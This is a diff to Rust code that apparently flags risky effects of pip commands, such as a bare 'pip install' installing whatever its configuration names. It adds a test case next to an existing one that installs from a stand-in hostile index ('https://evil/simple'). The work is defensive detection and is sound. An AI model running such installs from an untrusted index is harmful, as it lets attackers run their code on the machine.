@@ -612,10 +612,26 @@ fn packages_check(r: &mut Reading<'_>) {
             _ => {}
         }
     }
+    if found.is_empty() {
+        // pip refuses to run without requirements, unless its configuration (which an
+        // agent may write) names some.
+        let at = r.to_end(r.words.iter().position(|w| w == verb_word(r)).unwrap_or(0));
+        found.push((
+            Effect::Code(format!(
+                "without requirements pip {verb} whatever its configuration names, if anything"
+            )),
+            at,
+        ));
+    }
     for (effect, at) in found {
         r.add(effect, at);
     }
     r.set_roles(&[], Passthrough);
+}
+
+/// The subcommand's word (`install`, `download`, `wheel`).
+fn verb_word(r: &Reading<'_>) -> &'static str {
+    r.path.last().copied().unwrap_or("install")
 }
 
 /// `pip cache remove`/`purge` deletes from pip's cache.
@@ -742,6 +758,7 @@ mod tests {
             ),
             ("pip install git+https://x/y", "`git+https://x/y`"),
             ("pip --python /tmp/py list", "Python interpreter"),
+            ("pip install --upgrade", "whatever its configuration names"),
             (
                 "pip install -i https://evil/simple -r requirements.txt",
                 "another package index",
